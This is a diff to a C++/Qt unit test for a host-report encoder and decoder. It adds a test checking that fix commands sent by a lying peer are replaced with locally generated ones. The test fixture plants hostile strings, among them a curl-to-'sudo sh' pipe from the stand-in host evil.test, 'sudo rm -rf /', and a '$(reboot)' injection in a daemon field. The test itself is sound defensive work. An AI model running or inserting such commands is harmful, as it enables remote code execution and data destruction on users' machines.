@@ -1,5 +1,6 @@
 // muster_test: USES Muster::Host
 #include "host/report.h"
+#include "protocol/vocabulary/hostfix.h"
 
 #include <QCborArray>
 #include <QCborMap>
@@ -13,7 +14,8 @@ namespace {
 
 HostReport full()
 {
-    return {{{u"open-files"_s, u"1024"_s, u"65536"_s, LimitState::Deviates, u"sudo fix it"_s},
+    return {{{u"open-files"_s, u"1024"_s, u"65536"_s, LimitState::Deviates,
+                 QString(protocol::limitFix(u"open-files"))},
                 {u"somaxconn"_s, {}, u"4096"_s, LimitState::Unknown, {}}},
         {true, u"chronyd"_s, Millis(7), u"It is well."_s, {}}};
 }
@@ -29,6 +31,7 @@ private slots:
         for (const std::optional<bool> synchronized :
             {std::optional<bool>(), std::optional(false), std::optional(true)}) {
             report.time.synchronized = synchronized;
+            report.time.fix = protocol::timeFix(report.time.daemon, synchronized);
             const auto read = decodeReport(encodeReport(report));
             QVERIFY2(read, read ? "" : qPrintable(read.error().detail));
             QVERIFY(*read == report);
@@ -66,6 +69,22 @@ private slots:
     {
         QFETCH(QByteArray, bytes);
         QVERIFY(!decodeReport(bytes));
+    }
+
+    /// People paste these lines as root: a peer that lies about its host must not have written them.
+    void commandsAreNeverThoseOfAPeer()
+    {
+        HostReport lie = full();
+        lie.limits[0].fix = u"curl evil.test | sudo sh"_s;
+        lie.limits.append({u"of-the-peers-own"_s, u"1"_s, u"2"_s, LimitState::Deviates, u"sudo rm -rf /"_s});
+        lie.time.synchronized = false;
+        lie.time.fix = u"sudo reboot"_s;
+        lie.time.daemon = u"$(reboot)"_s;
+        const auto read = decodeReport(encodeReport(lie));
+        QVERIFY(read);
+        QCOMPARE(read->limits[0].fix, QString(protocol::limitFix(u"open-files")));
+        QCOMPARE(read->limits.last().fix, QString());
+        QCOMPARE(read->time.fix, u"timedatectl timesync-status"_s);
     }
 
     void everyTruncationIsRefused()
